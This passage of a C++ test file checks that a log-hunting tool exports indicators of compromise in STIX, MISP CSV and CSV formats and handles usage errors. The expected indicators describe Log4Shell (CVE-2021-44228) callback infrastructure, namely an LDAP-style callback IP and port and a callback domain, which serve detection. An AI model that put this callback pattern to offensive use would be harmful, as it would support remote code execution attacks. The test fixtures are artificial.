  ASSERT_EQ(hunt("-f jsonl -o /dev/null --iocs stix " + q(path("iocs2.json")) + " " + q(file)).exit_code, 1);
  json again = json::parse(std::ifstream(path("iocs2.json")));
  EXPECT_EQ(again["id"], bundle["id"]);

  ASSERT_EQ(hunt("-o /dev/null --iocs misp-csv " + q(path("misp.csv")) + " " + q(file)).exit_code, 1);
  std::stringstream misp;
  misp << std::ifstream(path("misp.csv")).rdbuf();
  auto mrows = parse_csv(misp.str());
  ASSERT_GE(mrows.size(), 2u);
  EXPECT_EQ(mrows[0][0], "uuid");
  std::set<std::pair<std::string, std::string>> attrs;
  for (size_t i = 1; i < mrows.size(); ++i) {
    ASSERT_EQ(mrows[i].size(), mrows[0].size());
    attrs.insert({mrows[i][3], mrows[i][4]});
  }
  EXPECT_TRUE(attrs.count({"ip-dst|port", "198.51.100.23|1389"}));
  EXPECT_TRUE(attrs.count({"domain", "cb.example.org"}));
  EXPECT_TRUE(attrs.count({"vulnerability", "CVE-2021-44228"}));
  EXPECT_TRUE(attrs.count({"ip-src", "192.0.2.11"}));

  ASSERT_EQ(hunt("-o /dev/null --iocs csv " + q(path("iocs.csv")) + " " + q(file)).exit_code, 1);
  std::stringstream ic;
  ic << std::ifstream(path("iocs.csv")).rdbuf();
  auto irows = parse_csv(ic.str());
  ASSERT_GE(irows.size(), 2u);
  EXPECT_EQ(irows[0], (std::vector<std::string>{"type", "value", "port", "count", "reaching", "first_seen", "last_seen"}));
  bool ip = false;
  for (const auto& r : irows) ip |= r[0] == "ipv4" && r[1] == "198.51.100.23" && r[2] == "1389" && r[3] == "2";
  EXPECT_TRUE(ip) << ic.str();
}

TEST_F(HuntE2E, UsageErrors) {
  std::string file = write("a.log", "x\n");
  EXPECT_EQ(hunt("--format xml " + q(file)).exit_code, 64);
  EXPECT_EQ(hunt("--iocs yaml " + q(path("x")) + " " + q(file)).exit_code, 64);
  EXPECT_EQ(hunt("--no-such-flag " + q(file)).exit_code, 64);
  EXPECT_EQ(hunt("- - < " + q(file)).exit_code, 64);
  EXPECT_EQ(hunt(q(file)).exit_code, 0);
}

}  // namespace
